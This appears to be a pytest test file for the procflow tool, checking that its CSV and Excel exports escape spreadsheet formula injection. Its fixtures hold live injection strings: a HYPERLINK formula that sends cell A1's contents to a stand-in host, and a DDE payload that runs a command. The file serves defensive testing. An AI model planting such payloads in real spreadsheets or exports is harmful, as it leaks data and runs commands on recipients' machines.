"""Every CSV and Excel file procflow writes keeps text that a spreadsheet would run as a formula
(starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return) as text, in cells and in
column names alike: the export, the rejected rows, the analysis and comparison workbooks and
the web's tables download."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

import procflow
from procflow.cli import main
from procflow.core.i18n import Texts
from procflow.measure.cases import case_table
from procflow.report.workbook import analysis_book
from procflow.report.xlsx import write_workbook
from procflow.store.export import write_csv
from tests.test_web_api import Site, cheap_hashes, upload_and_import

__all__ = ["cheap_hashes"]

LINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
RISKY = [LINK, "+62 811", "-1+2", "@SUM(A1)", "\tTAB", "\rCR"]
QUOTED = '"' + LINK.replace('"', '""') + '"'
SOURCE = (f"No. Permohonan;Tahapan;Waktu;Petugas;{QUOTED}\n"
          f"A-1;Daftar;2024-03-04T08:00Z;Ayu;{QUOTED}\n"
          "A-1;=1+1;2024-03-04T09:00Z;@Budi;x\n"
          "A-2;Daftar;=cmd|' /C calc'!A0;Ayu;x\n")


def risky(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def run(*args: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.output


@pytest.fixture
def source(tmp_path: Path) -> Path:
    path = tmp_path / "izin.csv"
    path.write_text(SOURCE, encoding="utf-8")
    return path


def test_export_neutralises_column_names_and_cells(source: Path, tmp_path: Path) -> None:
    ws = str(tmp_path / "ws.duckdb")
    code, out = run("import", str(source), "--workspace", ws)
    assert code == 0, out
    with procflow.Workspace(ws) as w:
        assert f"attr:{LINK}" in w.log("izin").columns()
    to = tmp_path / "out.csv"
    code, out = run("export", "izin", "--to", str(to), "--workspace", ws)
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(to.read_text(encoding="utf-8"))))
    assert rows[0][-1] == "'" + LINK
    assert [r[2] for r in rows[1:]] == ["Daftar", "'=1+1"]
    assert [r[5] for r in rows[1:]] == ["Ayu", "'@Budi"]
    assert rows[1][-1] == "'" + LINK
    assert not [cell for row in rows for cell in row if risky(cell)]


def test_write_csv_neutralises_every_formula_start(tmp_path: Path) -> None:
    table = pa.table({name: [name] for name in RISKY}
                     | {"big": pa.array(RISKY, pa.large_string())[:1]})
    to = tmp_path / "t.csv"
    write_csv(table, to)
    rows = list(csv.reader(io.StringIO(to.read_bytes().decode("utf-8"), newline="")))
    assert rows[0] == ["'" + name for name in RISKY] + ["big"]
    assert rows[1] == ["'" + name for name in RISKY] + ["'" + LINK]


def test_rejected_rows_csv_is_neutralised(source: Path, tmp_path: Path) -> None:
    rejects = tmp_path / "rejected.csv"
    code, out = run("import", str(source), "--workspace", str(tmp_path / "ws.duckdb"),
                    "--rejects", str(rejects))
    assert code == 0, out
    rows = list(csv.reader(io.StringIO(rejects.read_text(encoding="utf-8"))))
    assert rows == [["row", "reason", "column", "value"],
                    ["3", "unparseable timestamp", "Waktu", "'=cmd|' /C calc'!A0"]]


def cells(path: Path) -> list[str]:
    """Every text cell (column names included) of every sheet of a workbook."""
    book = load_workbook(path)
    return [c.value for sheet in book.worksheets for row in sheet.iter_rows() for c in row
            if isinstance(c.value, str)]


def test_workbooks_neutralise_column_names_and_cells(source: Path, tmp_path: Path) -> None:
    frame = pd.DataFrame({name: [name] for name in RISKY})
    book = write_workbook({"t": frame}, tmp_path / "t.xlsx")
    sheet = load_workbook(book).worksheets[0]
    assert [c.value for c in sheet[1]] == ["'" + name for name in RISKY]
    assert [c.value for c in sheet[2]] == ["'" + name for name in RISKY]
    log = procflow.read(source)
    analysis = procflow.analyze(log)
    sheets = analysis_book(analysis, Texts("en"), cases=case_table(log), source="=x.csv")
    written = cells(write_workbook(sheets, tmp_path / "a.xlsx"))
    assert "'=x.csv" in written
    assert "'=1+1" in written and "'@Budi" in written
    assert not [c for c in written if risky(c)]


def test_comparison_workbook_is_neutralised(source: Path, tmp_path: Path) -> None:
    code, out = run("compare", str(source), str(source), "--out", str(tmp_path / "cmp"),
                    "--xlsx")
    assert code == 0, out
    written = cells(tmp_path / "cmp" / "tables.xlsx")
    assert any(c.startswith("'=1+1") for c in written)
    assert not [c for c in written if risky(c)]


def test_web_tables_download_is_neutralised(source: Path, tmp_path: Path) -> None:
    site = Site(tmp_path / "data")
    andi = site.client("andi")
    upload_and_import(andi, site.a, "izin", source.read_bytes())
    r = andi.get(f"/api/w/{site.a}/logs/izin/download/tables.xlsx")
    assert r.status_code == 200, r.text
    (tmp_path / "web.xlsx").write_bytes(r.content)
    written = cells(tmp_path / "web.xlsx")
    assert "'=1+1" in written and "'@Budi" in written
    assert not [c for c in written if risky(c)]
